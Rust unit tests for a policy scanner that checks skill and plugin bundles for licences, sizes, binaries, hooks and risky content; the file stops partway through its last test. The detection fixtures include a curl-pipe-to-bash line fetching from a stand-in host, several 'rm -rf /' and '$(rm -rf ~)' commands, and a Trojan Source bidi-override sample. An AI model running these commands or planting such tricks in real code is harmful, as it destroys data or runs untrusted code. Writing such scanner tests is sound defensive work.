use super::licence::{spdx_alternatives, Term};
use super::*;
use crate::bundle::pack::pack_dir;
use std::fs;
use std::os::unix::fs::PermissionsExt;

fn limits() -> ArchiveLimits {
    ArchiveLimits {
        max_compressed: 64 << 20,
        max_unpacked: 256 << 20,
        max_entries: 100_000,
    }
}

/// Packs files (path, content, executable) with `pack_dir`.
fn bundle(files: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    for (path, content, exec) in files {
        let full = dir.path().join(path);
        fs::create_dir_all(full.parent().unwrap()).unwrap();
        fs::write(&full, content).unwrap();
        let mode = if *exec { 0o755 } else { 0o644 };
        fs::set_permissions(&full, fs::Permissions::from_mode(mode)).unwrap();
    }
    pack_dir(dir.path()).unwrap()
}

const SKILL: &[u8] = b"---\nname: demo\ndescription: A demo skill.\nlicense: MIT\n---\nbody\n";
const PLUGIN: &[u8] = br#"{"name": "kit", "version": "1.0.0", "license": "MIT"}"#;

fn skill_with(policy: &PolicyConfig, extra: &[(&str, &[u8], bool)]) -> Vec<Finding> {
    let mut files = vec![("SKILL.md", SKILL, false)];
    files.extend_from_slice(extra);
    evaluate(
        policy,
        Kind::Skill,
        "demo",
        Some("MIT"),
        &bundle(&files),
        &limits(),
    )
    .unwrap()
}

fn of<'f>(findings: &'f [Finding], rule: &str) -> Vec<&'f Finding> {
    findings.iter().filter(|f| f.rule == rule).collect()
}

fn one<'f>(findings: &'f [Finding], rule: &str) -> &'f Finding {
    let found = of(findings, rule);
    assert_eq!(found.len(), 1, "want one {rule} finding in {findings:#?}");
    found[0]
}

fn license(policy: &PolicyConfig, expr: Option<&str>) -> Vec<Finding> {
    let b = bundle(&[("SKILL.md", b"---\nname: demo\ndescription: d\n---\n", false)]);
    evaluate(policy, Kind::Skill, "demo", expr, &b, &limits()).unwrap()
}

#[test]
fn a_clean_skill_has_no_findings() {
    let f = skill_with(
        &PolicyConfig::default(),
        &[("docs/usage.md", b"# Usage\nRun it.\n", false)],
    );
    assert!(f.is_empty(), "{f:#?}");
    assert!(!rejects(&f));
}

#[test]
fn config_defaults_parse_and_check() {
    let d = PolicyConfig::default();
    d.check().unwrap();
    assert_eq!(toml::from_str::<PolicyConfig>("").unwrap(), d);
    assert_eq!(d.max_file_bytes, 10 * 1024 * 1024);
    assert_eq!(d.max_bundle_bytes, 0);
    assert_eq!(d.skill_md, "lenient");
    assert_eq!(d.auto_reject, ["license-deny", "reserved-name"]);
    assert_eq!(d.content_patterns.len(), 8);
    assert!(d.hidden_unicode && d.flag_binaries && d.flag_nested_archives);
    let p: PolicyConfig =
        toml::from_str("license_deny = [\"GPL-3.0-only\"]\nskill_md = \"strict\"\n").unwrap();
    assert_eq!(p.license_deny, ["GPL-3.0-only"]);
    assert_eq!(p.content_patterns, d.content_patterns);
    assert!(toml::from_str::<PolicyConfig>("licence_deny = []").is_err());
}

#[test]
fn check_refuses_bad_values() {
    let bad = PolicyConfig {
        content_patterns: vec!["ok".into(), "eval(".into()],
        ..Default::default()
    };
    let err = bad.check().unwrap_err().to_string();
    assert!(
        err.contains("`eval(`") && err.contains("policy.content_patterns"),
        "{err}"
    );
    let empty = PolicyConfig {
        content_patterns: vec![String::new()],
        ..Default::default()
    };
    assert!(empty
        .check()
        .unwrap_err()
        .to_string()
        .contains("empty pattern"));
    let mode = PolicyConfig {
        skill_md: "loose".into(),
        ..Default::default()
    };
    assert!(mode.check().unwrap_err().to_string().contains("`loose`"));
    let rule = PolicyConfig {
        auto_reject: vec!["licence-deny".into()],
        ..Default::default()
    };
    assert!(rule
        .check()
        .unwrap_err()
        .to_string()
        .contains("`licence-deny`"));
}

#[test]
fn an_invalid_pattern_that_slipped_past_check_is_reported() {
    let bad = PolicyConfig {
        content_patterns: vec!["eval(".into()],
        ..Default::default()
    };
    let f = skill_with(&bad, &[]);
    assert!(one(&f, "content-pattern").detail.contains("invalid"));
}

#[test]
fn severity_and_finding_serialize_in_lowercase() {
    assert_eq!(
        serde_json::to_string(&Severity::Reject).unwrap(),
        "\"reject\""
    );
    let f = Finding::new("size", Severity::Info, None, "d".into());
    let json = serde_json::to_string(&f).unwrap();
    assert_eq!(
        json,
        r#"{"rule":"size","severity":"info","path":null,"detail":"d"}"#
    );
    assert_eq!(serde_json::from_str::<Finding>(&json).unwrap(), f);
    assert!(Severity::Info < Severity::Warning && Severity::Warning < Severity::Reject);
}

#[test]
fn license_deny_fires_and_auto_rejects() {
    let p = PolicyConfig {
        license_deny: vec!["GPL-3.0-only".into()],
        ..Default::default()
    };
    for expr in [
        "GPL-3.0-only",
        "gpl-3.0-only",
        "MIT AND GPL-3.0-only",
        "(MIT AND GPL-3.0-only) OR GPL-3.0-only",
    ] {
        let f = license(&p, Some(expr));
        let d = one(&f, "license-deny");
        assert_eq!(d.severity, Severity::Reject, "{expr}");
        assert!(
            d.detail.to_lowercase().contains("without `gpl-3.0-only`"),
            "{}",
            d.detail
        );
        assert!(rejects(&f));
    }
    // a choice without the denied licence is fine
    for expr in [
        "MIT",
        "MIT OR GPL-3.0-only",
        "(GPL-3.0-only AND MIT) OR Apache-2.0",
    ] {
        assert!(
            of(&license(&p, Some(expr)), "license-deny").is_empty(),
            "{expr}"
        );
    }
    // exceptions can be denied too
    let p = PolicyConfig {
        license_deny: vec!["Classpath-exception-2.0".into()],
        ..Default::default()
    };
    let f = license(&p, Some("GPL-2.0-only WITH Classpath-exception-2.0"));
    assert!(one(&f, "license-deny")
        .detail
        .contains("GPL-2.0-only WITH Classpath-exception-2.0"));
}

#[test]
fn license_not_allowed_fires() {
    let p = PolicyConfig {
        license_allow: vec!["MIT".into(), "Apache-2.0".into()],
        ..Default::default()
    };
    for expr in [
        "MIT",
        "MIT OR Apache-2.0",
        "GPL-3.0-only OR MIT",
        "MIT/Apache-2.0",
        "(MIT AND Apache-2.0)",
        "Apache-2.0 WITH LLVM-exception",
    ] {
        assert!(license(&p, Some(expr)).is_empty(), "{expr}");
    }
    let f = license(&p, Some("MIT AND BSD-3-Clause"));
    let d = one(&f, "license-not-allowed");
    assert_eq!(d.severity, Severity::Warning);
    assert!(
        d.detail.contains("`BSD-3-Clause`") && !d.detail.contains("`MIT`"),
        "{}",
        d.detail
    );
    // free text is read cautiously: every word must be allowed
    assert_eq!(license(&p, Some("Apache 2.0")).len(), 1);
    assert_eq!(license(&p, Some("((MIT)")).len(), 0);
    assert_eq!(license(&p, Some("MIT AND (GPL-2.0")).len(), 1);
    // no allow list: anything goes
    assert!(license(&PolicyConfig::default(), Some("LicenseRef-Mine")).is_empty());
}

#[test]
fn license_missing_fires_unless_the_manifest_has_one() {
    let f = license(&PolicyConfig::default(), None);
    let d = one(&f, "license-missing");
    assert_eq!(d.severity, Severity::Warning);
    assert!(d.detail.contains("no LICENSE file"), "{}", d.detail);
    assert_eq!(
        one(
            &license(&PolicyConfig::default(), Some("  ")),
            "license-missing"
        )
        .severity,
        Severity::Warning
    );
    assert_eq!(
        license(&PolicyConfig::default(), Some("NOASSERTION")).len(),
        1
    );
    // the manifest's licence is used when none is passed in, and checked
    let b = bundle(&[
        ("SKILL.md", SKILL, false),
        ("LICENSE", b"MIT License\n", false),
    ]);
    let p = PolicyConfig {
        license_deny: vec!["MIT".into()],
        ..Default::default()
    };
    let f = evaluate(&p, Kind::Skill, "demo", None, &b, &limits()).unwrap();
    assert!(one(&f, "license-deny").detail.contains("from `SKILL.md`"));
    assert!(of(&f, "license-missing").is_empty());
    let pb = bundle(&[(".claude-plugin/plugin.json", PLUGIN, false)]);
    let f = evaluate(&p, Kind::Plugin, "kit", None, &pb, &limits()).unwrap();
    assert!(one(&f, "license-deny").detail.contains("plugin.json"));
    let cb = bundle(&[(
        "c-1.0.0/Cargo.toml",
        b"[package]\nname = \"c\"\nlicense = \"MIT\"\n",
        false,
    )]);
    let f = evaluate(&p, Kind::Crate, "c", None, &cb, &limits()).unwrap();
    assert!(one(&f, "license-deny").detail.contains("Cargo.toml"));
    // a LICENSE file is pointed at
    let b = bundle(&[
        ("SKILL.md", b"---\nname: demo\ndescription: d\n---\n", false),
        ("LICENSE.txt", b"MIT License\n", false),
    ]);
    let f = evaluate(
        &PolicyConfig::default(),
        Kind::Skill,
        "demo",
        None,
        &b,
        &limits(),
    )
    .unwrap();
    assert!(one(&f, "license-missing").detail.contains("`LICENSE.txt`"));
}

#[test]
fn proprietary_license_files_are_flagged() {
    let p = PolicyConfig::default();
    let f = skill_with(
        &p,
        &[("LICENSE", b"Copyright 2025 Acme Corp.\nAll rights reserved.\nThis software is proprietary and confidential and\nmay not be copied.\n", false)],
    );
    let d = one(&f, "license-file-proprietary");
    assert_eq!(d.path.as_deref(), Some("LICENSE"));
    assert!(
        d.detail.contains("\"all rights reserved\"") && d.detail.contains("\"may not be copied\""),
        "{}",
        d.detail
    );
    // open-source texts, even with "All rights reserved"
    let bsd = b"Copyright (c) 2020, Someone\nAll rights reserved.\n\nRedistribution and use in source and binary\nforms, with or without modification, are permitted.\n";
    let mit = b"MIT License\n\nPermission is hereby granted, free of charge, to any person\n";
    let f = skill_with(
        &p,
        &[("LICENSE", bsd, false), ("vendor/COPYING.md", mit, false)],
    );
    assert!(of(&f, "license-file-proprietary").is_empty(), "{f:#?}");
    // other files are not licence files
    let f = skill_with(&p, &[("NOTES.md", b"All rights reserved.\n", false)]);
    assert!(of(&f, "license-file-proprietary").is_empty());
}

#[test]
fn size_fires_over_the_limit_only() {
    let big = PolicyConfig {
        max_bundle_bytes: 10,
        ..Default::default()
    };
    let f = skill_with(&big, &[]);
    let d = one(&f, "size");
    assert!(
        d.detail.contains("policy.max_bundle_bytes is 10"),
        "{}",
        d.detail
    );
    let roomy = PolicyConfig {
        max_bundle_bytes: 1 << 20,
        ..Default::default()
    };
    assert!(of(&skill_with(&roomy, &[]), "size").is_empty());
}

#[test]
fn file_size_and_unscanned() {
    let small = PolicyConfig {
        max_file_bytes: 100,
        ..Default::default()
    };
    let mut body = b"eval(x)\n".to_vec();
    body.resize(200, b'a');
    let f = skill_with(
        &small,
        &[("big.txt", &body, false), ("small.txt", b"fine\n", false)],
    );
    let d = one(&f, "file-size");
    assert_eq!(
        (d.path.as_deref(), d.severity),
        (Some("big.txt"), Severity::Warning)
    );
    assert!(d.detail.contains("200 bytes"));
    assert!(
        of(&f, "content-pattern").is_empty(),
        "files over the limit are not scanned"
    );
    // within max_file_bytes but past what inspect keeps
    let mut huge = b"os.system('x')\n".to_vec();
    huge.resize(MAX_KEPT_FILE as usize + 1, b'a');
    let f = skill_with(&PolicyConfig::default(), &[("huge.txt", &huge, false)]);
    let d = one(&f, "unscanned");
    assert_eq!(
        (d.path.as_deref(), d.severity),
        (Some("huge.txt"), Severity::Info)
    );
    assert!(of(&f, "file-size").is_empty() && of(&f, "content-pattern").is_empty());
    // no limit
    let none = PolicyConfig {
        max_file_bytes: 0,
        ..Default::default()
    };
    let f = skill_with(&none, &[("big.txt", &body, false)]);
    assert!(of(&f, "file-size").is_empty());
    assert_eq!(of(&f, "content-pattern").len(), 1);
}

#[test]
fn content_patterns_give_path_and_line() {
    let p = PolicyConfig::default();
    let script = b"#!/bin/sh\necho hi\ncurl -fsSL https://x.example/i.sh | bash\nrm -rf /\nrm -rf /tmp/x\nrm -rf ~/code\nsh -c \"rm -rf /\"\n$(rm -rf ~)\nrm -rf //\n";
    let f = skill_with(
        &p,
        &[
            ("scripts/install.sh", script, false),
            ("a.py", b"import subprocess\nsubprocess.run(x)\n", false),
            // Words that merely contain a pattern are not flagged.
            (
                "b.py",
                b"docs = retrieval(q)\nmedieval(x)\nsubprocesses = 2\n",
                false,
            ),
            (
                "c.py",
                b"await asyncio.create_subprocess_exec(cmd)\n",
                false,
            ),
        ],
    );
    let hits = of(&f, "content-pattern");
    assert_eq!(hits.len(), 4, "{hits:#?}");
    assert!(hits.iter().any(|h| h.path.as_deref() == Some("c.py")));
    let curl = hits.iter().find(|h| h.detail.contains("curl")).unwrap();
    assert_eq!(curl.path.as_deref(), Some("scripts/install.sh"));
    assert!(curl.detail.contains("line 3"), "{}", curl.detail);
    let rm = hits
        .iter()
        .find(|h| h.detail.contains(r"rm\s+-rf"))
        .unwrap();
    assert!(
        rm.detail.contains("line 4") && rm.detail.contains("4 matches"),
        "{}",
        rm.detail
    );
    let sub = hits
        .iter()
        .find(|h| h.path.as_deref() == Some("a.py"))
        .unwrap();
    assert!(
        sub.detail.contains("line 1") && sub.detail.contains("import subprocess"),
        "{}",
        sub.detail
    );
    assert!(hits.iter().all(|h| h.severity == Severity::Warning));
    // clean text and binary files are not flagged
    let f = skill_with(
        &p,
        &[
            ("ok.md", b"Evaluate the result.\nexecute carefully\n", false),
            ("blob.bin", b"\0\0eval(x)", false),
        ],
    );
    assert!(of(&f, "content-pattern").is_empty(), "{f:#?}");
    // custom patterns
    let custom = PolicyConfig {
        content_patterns: vec![r"(?i)secret".into()],
        ..Default::default()
    };
    let f = skill_with(&custom, &[("x.md", b"a\nb\nMy SECRET\n", false)]);
    assert!(one(&f, "content-pattern").detail.contains("line 3"));
}

#[test]
fn hidden_unicode_fires_and_respects_ordinary_uses() {
    let p = PolicyConfig::default();
    let trojan = "let ok = true;\n// \u{202E} }\u{2066}if (admin)\u{2069} {\n\u{202E}x\n";
    let f = skill_with(&p, &[("src.js", trojan.as_bytes(), false)]);
    let d = one(&f, "hidden-unicode");
    assert!(
        d.detail
            .contains("U+202E (right-to-left override) ×2 first at line 2"),
        "{}",
        d.detail
    );
    assert!(
        d.detail.contains("U+2066") && d.detail.contains("U+2069"),
        "{}",
        d.detail
    );
    for text in [
        "\u{FEFF}a leading byte order mark\n",
        "family: \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\n",
        "flag: \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}\n",
        "plain text\n",
    ] {
        let f = skill_with(&p, &[("a.md", text.as_bytes(), false)]);
        assert!(of(&f, "hidden-unicode").is_empty(), "{text:?}: {f:#?}");
    }
    for (text, code) in [
        ("mid\u{FEFF}file", "U+FEFF"),
        ("zero\u{200B}width", "U+200B"),
        ("tags \u{E0041}\u{E0042}", "U+E0041"),
        ("a\u{200D}b", "U+200D"),
    ] {
        let f = skill_with(&p, &[("a.md", text.as_bytes(), false)]);
        assert!(one(&f, "hidden-unicode").detail.contains(code), "{text:?}");
    }
    // in a path, escaped in the detail
    let f = skill_with(&p, &[("evil\u{202E}txt.md", b"x", false)]);
    let d = one(&f, "hidden-unicode");
    assert!(
        d.detail.contains("\\u{202E}") && !d.detail.contains('\u{202E}'),
        "{}",
        d.detail
    );
    let off = PolicyConfig {
        hidden_unicode: false,
        ..Default::default()
    };
    assert!(of(
        &skill_with(&off, &[("src.js", trojan.as_bytes(), false)]),
        "hidden-unicode"
    )
    .is_empty());
}

#[test]
fn binaries_are_flagged() {
    let p = PolicyConfig::default();
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend_from_slice(&[0; 64]);
    let mut pe = vec![0u8; 0x80];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    let macho = [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1];
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    let f = skill_with(
        &p,
        &[
            ("bin/tool", &elf, true),
            ("tool.exe", &pe, false),
            ("tool-mac", &macho, false),
            ("icon.png", png, false),
            ("MZ.md", b"MZ is a format\n", false),
        ],
    );
    let bins = of(&f, "binary");
    assert_eq!(bins.len(), 4, "{bins:#?}");
    let sev = |path: &str| {
        bins.iter()
            .find(|b| b.path.as_deref() == Some(path))
            .unwrap()
    };
    assert!(
        sev("bin/tool").detail.contains("ELF") && sev("bin/tool").severity == Severity::Warning
    );
    assert!(sev("tool.exe").detail.contains("PE"));
    assert!(sev("tool-mac").detail.contains("Mach-O"));
    assert_eq!(sev("icon.png").severity, Severity::Info);
    let off = PolicyConfig {
        flag_binaries: false,
        ..Default::default()
    };
    assert!(of(&skill_with(&off, &[("bin/tool", &elf, false)]), "binary").is_empty());
}

#[test]
fn nested_archives_by_name_or_magic() {
    let p = PolicyConfig::default();
    let inner = bundle(&[("a.txt", b"hi", false)]);
    let f = skill_with(
        &p,
        &[
            ("vendor/lib.whl", b"not really", false),
            ("data.bin", &inner, false),
            ("pkg.tar.gz", &inner, false),
            ("zipped", b"PK\x03\x04\x14\0", false),
        ],
    );
    let n = of(&f, "nested-archive");
    assert_eq!(n.len(), 4, "{n:#?}");
    assert!(n
        .iter()
        .any(|x| x.path.as_deref() == Some("data.bin") && x.detail.contains("gzip")));
    assert!(n
        .iter()
        .any(|x| x.path.as_deref() == Some("vendor/lib.whl") && x.detail.contains("wheel")));
    assert!(
        of(&f, "binary").is_empty(),
        "archives are not reported twice: {f:#?}"
    );
    assert!(of(
        &skill_with(&p, &[("notes.md", b"zip it up", false)]),
        "nested-archive"
    )
    .is_empty());
    let off = PolicyConfig {
        flag_nested_archives: false,
        ..Default::default()
    };
    let f = skill_with(&off, &[("x.zip", b"x", false), ("data.bin", &inner, false)]);
    assert!(of(&f, "nested-archive").is_empty(), "{f:#?}");
}

#[test]
fn plugin_inventory_lists_what_runs() {
    let manifest = br#"{"name": "kit", "license": "MIT", "hooks": "./extra/hooks.json",
        "mcpServers": {"db": {"command": "npx", "args": ["-y", "db-mcp"]}}}"#;
    let hooks = br#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": "${CLAUDE_PLUGIN_ROOT}/check.sh"},
        {"type": "prompt", "prompt": "Is this safe?"}]}]}}"#;
    let extra = br#"{"Stop": [{"hooks": [{"type": "command", "command": "echo bye"}]}]}"#;
    let mcp = br#"{"mcpServers": {"search": {"type": "http", "url": "https://mcp.example/s"}}}"#;
    let b = bundle(&[
        (".claude-plugin/plugin.json", manifest, false),
        ("hooks/hooks.json", hooks, false),
        ("extra/hooks.json", extra, false),
        (".mcp.json", mcp, false),
        ("bin/kit-tool", b"#!/usr/bin/env python3\nprint(1)\n", true),
        ("check.sh", b"#!/bin/sh\nexit 0\n", false),
        ("tools/run", b"echo no shebang\n", true),
        ("README.md", b"# kit\n", false),
    ]);
    let f = evaluate(
        &PolicyConfig::default(),
        Kind::Plugin,
        "kit",
        Some("MIT"),
        &b,
        &limits(),
    )
    .unwrap();
    let hooks = of(&f, "hook");
    assert_eq!(hooks.len(), 3, "{hooks:#?}");
    assert!(hooks
        .iter()
        .any(|h| h.path.as_deref() == Some("hooks/hooks.json")
            && h.detail.contains("`PreToolUse` hook (matcher `Bash`)")
            && h.detail
                .contains("runs the command `${CLAUDE_PLUGIN_ROOT}/check.sh`")));
    assert!(hooks
        .iter()
        .any(|h| h.detail.contains("prompt \"Is this safe?\"")));
    assert!(hooks
        .iter()
        .any(|h| h.path.as_deref() == Some("extra/hooks.json")
            && h.detail.contains("`Stop`")
            && h.detail.contains("echo bye")));
    let mcps = of(&f, "mcp-server");
    assert_eq!(mcps.len(), 2, "{mcps:#?}");
    assert!(mcps.iter().any(|m| m.detail.contains("`db`")
        && m.detail.contains("runs `npx -y db-mcp`")
        && m.path.as_deref() == Some(plugin::PLUGIN_JSON)));
    assert!(mcps.iter().any(|m| m.detail.contains("`search`")
        && m.detail.contains("https://mcp.example/s")
        && m.detail.contains("(http)")));
    let bin = one(&f, "bin");
    assert_eq!(bin.path.as_deref(), Some("bin/kit-tool"));
    let scripts: Vec<_> = of(&f, "script")
        .iter()
        .map(|s| s.path.clone().unwrap())
        .collect();
    assert_eq!(scripts, ["bin/kit-tool", "check.sh", "tools/run"]);
    assert!(f
        .iter()
        .filter(|x| ["hook", "mcp-server", "bin", "script"].contains(&x.rule.as_str()))
        .all(|x| x.severity == Severity::Info));
    // a plugin with none of these has no inventory
    let b = bundle(&[(".claude-plugin/plugin.json", PLUGIN, false)]);
    let f = evaluate(
        &PolicyConfig::default(),
        Kind::Plugin,
        "kit",
        Some("MIT"),
        &b,
        &limits(),
    )
    .unwrap();
    assert!(f.is_empty(), "{f:#?}");
    // a broken or missing hooks file is a warning
    let b = bundle(&[
        (
            ".claude-plugin/plugin.json",
            br#"{"name": "kit", "mcpServers": "./missing.json"}"#,
            false,
        ),
        ("hooks/hooks.json", b"{not json", false),
    ]);
    let f = evaluate(
        &PolicyConfig::default(),
        Kind::Plugin,
        "kit",
        Some("MIT"),
        &b,
        &limits(),
    )
    .unwrap();
    assert_eq!(one(&f, "hook").severity, Severity::Warning);
    assert!(one(&f, "mcp-server").detail.contains("not in the bundle"));
}

#[test]
fn skill_frontmatter_hooks_are_listed() {
    let text = b"---\nname: demo\ndescription: d\nlicense: MIT\nhooks:\n  PostToolUse:\n    - matcher: Edit\n      hooks:\n        - type: command\n          command: ./fmt.sh\n---\n";
    let b = bundle(&[("SKILL.md", text, false)]);
    let f = evaluate(
        &PolicyConfig::default(),
        Kind::Skill,
        "demo",
        None,
        &b,
        &limits(),
    )
    .unwrap();
    let h = one(&f, "hook");
    assert!(
        h.detail.contains("`PostToolUse` hook (matcher `Edit`)") && h.detail.contains("./fmt.sh"),
        "{}",
        h.detail
    );
    // `hooks` is also an unknown spec key
    assert_eq!(one(&f, "skill-md").severity, Severity::Info);
}

#[test]
fn skill_md_lenient_and_strict() {
    let strict = PolicyConfig {
        skill_md: "strict".into(),
        ..Default::default()
    };
    let lenient = PolicyConfig::default();
    let unknown = b"---\nname: demo\ndescription: d\nlicense: MIT\nwhen_to_use: always\n---\n";
    let run = |p: &PolicyConfig, text: &[u8]| {
        let b = bundle(&[("SKILL.md", text, false)]);
        evaluate(p, Kind::Skill, "demo", Some("MIT"), &b, &limits()).unwrap()
    };
    let l = run(&lenient, unknown);
    assert_eq!(one(&l, "skill-md").severity, Severity::Info);
    assert!(one(&l, "skill-md").detail.contains("when_to_use"));
    let s = run(&strict, unknown);
    assert_eq!(one(&s, "skill-md").severity, Severity::Reject);
    assert!(rejects(&s) && !rejects(&l));
    let xml = b"---\nname: demo\ndescription: Use <b>me</b>\n---\n";
    assert!(one(&run(&strict, xml), "skill-md").detail.contains("XML"));
    let broken = b"# no frontmatter\n";
    assert_eq!(
        one(&run(&lenient, broken), "skill-md").severity,
        Severity::Warning
    );
    assert_eq!(
        one(&run(&strict, broken), "skill-md").severity,
        Severity::Reject
    );
    assert!(run(&strict, SKILL).is_empty());
    // the name must be the package's
    let other = b"---\nname: other\ndescription: d\n---\n";
    assert!(one(&run(&lenient, other), "skill-md")
        .detail
        .contains("`other`"));
    // a skill without SKILL.md
    let b = bundle(&[("README.md", b"x", false)]);
    let f = evaluate(&lenient, Kind::Skill, "demo", Some("MIT"), &b, &limits()).unwrap();
    assert!(one(&f, "skill-md").detail.contains("no SKILL.md"));
    // every skills/*/SKILL.md of a plugin, against its folder
    let b = bundle(&[
        (".claude-plugin/plugin.json", PLUGIN, false),
        (
            "skills/good/SKILL.md",
            b"---\nname: good\ndescription: d\n---\n",
            false,
        ),
        (
            "skills/bad/SKILL.md",
            b"---\nname: good\ndescription: d\nfoo: 1\n---\n",
            false,
        ),
        ("skills/worse/SKILL.md", b"---\nname: [\n---\n", false),
    ]);
    let f = evaluate(&strict, Kind::Plugin, "kit", Some("MIT"), &b, &limits()).unwrap();
    let s = of(&f, "skill-md");
    assert_eq!(s.len(), 3, "{s:#?}");
    assert_eq!(
        s.iter()
            .filter(|x| x.path.as_deref() == Some("skills/bad/SKILL.md"))
            .count(),
        2
    );
    assert!(s.iter().all(|x| x.severity == Severity::Reject));
    // crates have none
    let b = bundle(&[("c-1.0.0/Cargo.toml", b"[package]\nname = \"c\"\n", false)]);
    assert!(
        evaluate(&strict, Kind::Crate, "c", Some("MIT"), &b, &limits())
            .unwrap()
            .is_empty()
    );
}

#[test]
fn reserved_names_are_rejected() {
    let p = PolicyConfig::default();
    let plugin = |name: &str| {
        let json = format!(r#"{{"name": "{name}", "license": "MIT"}}"#);
        let b = bundle(&[(".claude-plugin/plugin.json", json.as_bytes(), false)]);
        evaluate(&p, Kind::Plugin, name, None, &b, &limits()).unwrap()
    };
    let f = plugin("agent-skills");
    let d = one(&f, "reserved-name");
    assert_eq!(d.severity, Severity::Reject);
    assert!(d.detail.contains("reserved"), "{}", d.detail);
    let f = plugin("claude-code-plugins");
    assert_eq!(of(&f, "reserved-name").len(), 1, "one finding per name");
    // A name that merely contains the word is a warning, not a rejection.
    let f = plugin("my-claude-helper");
    let d = one(&f, "reserved-word");
    assert!(d.detail.contains("\"claude\""));
    assert_eq!(d.severity, Severity::Warning);
    assert!(of(&f, "reserved-name").is_empty());
    assert!(of(&plugin("anthropicish"), "reserved-word").len() == 1);
    assert!(plugin("kit").is_empty());
    // crates are not held to the skill and plugin rules
    let b = bundle(&[(
        "anthropic-sdk-1.0.0/Cargo.toml",
        b"[package]\nname = \"anthropic-sdk\"\n",
        false,
    )]);
    let f = evaluate(&p, Kind::Crate, "anthropic-sdk", Some("MIT"), &b, &limits()).unwrap();
    assert!(f.is_empty(), "{f:#?}");
    // custom list, compared normalized
    let custom = PolicyConfig {
        reserved_names: vec!["Our_Tools".into()],
        ..Default::default()
    };
    let b = bundle(&[(
        "SKILL.md",
        b"---\nname: our-tools\ndescription: d\nlicense: MIT\n---\n",
        false,
    )]);
    let f = evaluate(&custom, Kind::Skill, "our-tools", None, &b, &limits()).unwrap();
    assert_eq!(one(&f, "reserved-name").severity, Severity::Reject);
}

#[test]
fn auto_reject_sets_the_severity_of_listed_rules() {
    let p = PolicyConfig {
        auto_reject: vec!["content-pattern".into(), "script".into()],
        license_deny: vec!["MIT".into()],
        ..Default::default()
    };
    let f = skill_with(&p, &[("run.sh", b"#!/bin/sh\neval(x)\n", false)]);
    assert_eq!(one(&f, "content-pattern").severity, Severity::Reject);
    assert_eq!(one(&f, "script").severity, Severity::Reject);
    // license-deny is no longer listed: a warning
    assert_eq!(one(&f, "license-deny").severity, Severity::Warning);
    let none = PolicyConfig {
        auto_reject: Vec::new(),
        ..Default::default()
    };
    let b = bundle(&[(
        "SKILL.md",
        b"---\nname: agent-skills\ndescription: d\n---\n",
        false,
    )]);
    let f = evaluate(
        &none,
        Kind::Skill,
        "agent-skills",
        Some("MIT"),
        &b,
        &limits(),
    )
    .unwrap();
    assert_eq!(one(&f, "reserved-name").severity, Severity::Warning);
    assert!(!rejects(&f));
}

#[test]
fn output_is_sorted_and_deterministic() {
    let p = PolicyConfig {
        license_allow: vec!["Apache-2.0".into()],
        ..Default::default()
    };
    let files: &[(&str, &[u8], bool)] = &[
        (
            "SKILL.md",
            b"---\nname: demo\ndescription: d\nx: 1\n---\n",
            false,
        ),
        ("z.sh", b"#!/bin/sh\neval(a)\nsubprocess\n", true),
        ("a.sh", b"#!/bin/sh\nos.system(1)\n", false),
        ("k.zip", b"PK\x03\x04", false),
    ];
    let b = bundle(files);
    let a = evaluate(&p, Kind::Skill, "demo", None, &b, &limits()).unwrap();
    let again = evaluate(&p, Kind::Skill, "demo", None, &b, &limits()).unwrap();
    assert_eq!(a, again);
    let keys: Vec<_> = a.iter().map(|f| (&f.rule, &f.path, &f.detail)).collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
    assert!(a.len() >= 7, "{a:#?}");
}

#[test]
fn refused_archives_are_errors() {
    let err = evaluate(
        &PolicyConfig::default(),
        Kind::Skill,
        "demo",
        None,
        b"not gzip",
        &limits(),
    )
    .unwrap_err();
    assert!(matches!(err, BundleError::NotGzip));
}

#[test]
fn spdx_alternatives_expand() {
    let ids = |e: &str| -> Vec<Vec<String>> {
        spdx_alternatives(e)
            .into_iter()
            .map(|a| a.iter().map(Term::display).collect())
            .collect()
    };
    assert_eq!(ids("MIT"), [["MIT"]]);
    assert_eq!(ids("MIT OR Apache-2.0"), [["MIT"], ["Apache-2.0"]]);
    assert_eq!(ids("A AND (B OR C)"), [["A", "B"], ["A", "C"]]);
    assert_eq!(ids("A OR B AND C"), vec![vec!["A"], vec!["B", "C"]]);
    assert_eq!(
        ids("GPL-2.0 WITH X OR MIT"),
        vec![vec!["GPL-2.0 WITH X"], vec!["MIT"]]
    );
    assert_eq!(ids("Apache 2.0"), [["Apache", "2.0"]]);
    assert_eq!(ids("MIT or apache-2.0"), [["MIT"], ["apache-2.0"]]);
    // a pathological expression falls back to every id at once
    let wide = (0..10)
        .map(|i| format!("(a{i} OR b{i})"))
        .collect::<Vec<_>>()
        .join(" AND ");
    assert_eq!(ids(&wide).len(), 1);
    assert_eq!(ids(&wide)[0].len(), 20);
}

#[test]
fn superpowers_fixture() {
    // Where tests/common finds the fixtures: $SKILLREG_FIXTURES, else
    // ../shared/fixtures beside the repository, else /work/shared/fixtures.
    let beside = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/fixtures");
    let base = match std::env::var_os("SKILLREG_FIXTURES") {
        Some(dir) => std::path::PathBuf::from(dir),
        None if beside.is_dir() => beside.clone(),
        None => std::path::PathBuf::from("/work/shared/fixtures"),
    };
    let dir = base.join("marketplaces/superpowers");
    assert!(
        dir.is_dir(),
        "the superpowers fixture is missing: looked for {} ($SKILLREG_FIXTURES {}; {} {}); \
         set SKILLREG_FIXTURES to the fixtures directory",
        dir.display(),
        match std::env::var_os("SKILLREG_FIXTURES") {
            Some(v) => format!("= {}", v.to_string_lossy()),
            None => "unset".into(),
        },
        beside.display(),
        if beside.is_dir() {
            "exists"
        } else {
            "does not exist"
        },
    );
    let dir = dir.as_path();
    let b = pack_dir(dir).unwrap();
    let f = evaluate(
        &PolicyConfig::default(),
        Kind::Plugin,
        "superpowers",
        None,
        &b,
        &limits(),
    )
    .unwrap();
    println!("superpowers: {} findings", f.len());
